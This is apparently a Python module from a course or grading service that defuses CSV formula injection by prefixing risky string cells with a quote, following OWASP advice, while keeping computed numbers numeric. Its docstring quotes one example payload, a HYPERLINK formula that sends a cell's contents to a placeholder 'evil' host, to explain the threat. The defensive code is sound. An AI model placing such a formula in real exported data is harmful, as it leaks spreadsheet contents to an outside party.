"""Every CSV the service writes goes through here, so no cell can become a spreadsheet formula.

Spreadsheets (Excel, LibreOffice, Google Sheets) run a cell that starts with ``=``, ``+``,
``-`` or ``@`` as a formula, and some also after a leading tab or carriage return; a student
named ``=HYPERLINK("http://evil/?"&A1, "click")`` would otherwise run in the instructor's
gradebook. Following OWASP's "CSV Injection" advice, such a *string* is prefixed with ``'``,
which the spreadsheet shows as text and does not evaluate.

Numbers stay numbers: a float or int the service computed (a score, a facility, a negative
discrimination index such as ``-0.25``) is written as the number, since a spreadsheet reads
``-0.25`` as a value, not a formula, and a gradebook import needs it numeric. Only real
``int``/``float`` values get this; a *string* that merely looks like a number (a student's
typed answer "-3") is text from outside and is neutralised like any other.
"""
from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value) -> str | int | float:
    """One cell as it may be written: numbers as they are, strings defused, None empty."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, (int, float)):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


def csv_text(header: Sequence, rows: Iterable[Sequence]) -> str:
    """A whole CSV document with every cell passed through ``neutralise``.

    Rows end in CRLF as RFC 4180 (and Excel) write them; the csv module quotes a cell that
    holds any character of the line terminator, so a carriage return inside a name stays
    inside its quoted cell instead of starting a row (with ``\\n`` alone it would not).
    """
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([neutralise(cell) for cell in header])
    for row in rows:
        writer.writerow([neutralise(cell) for cell in row])
    return out.getvalue()
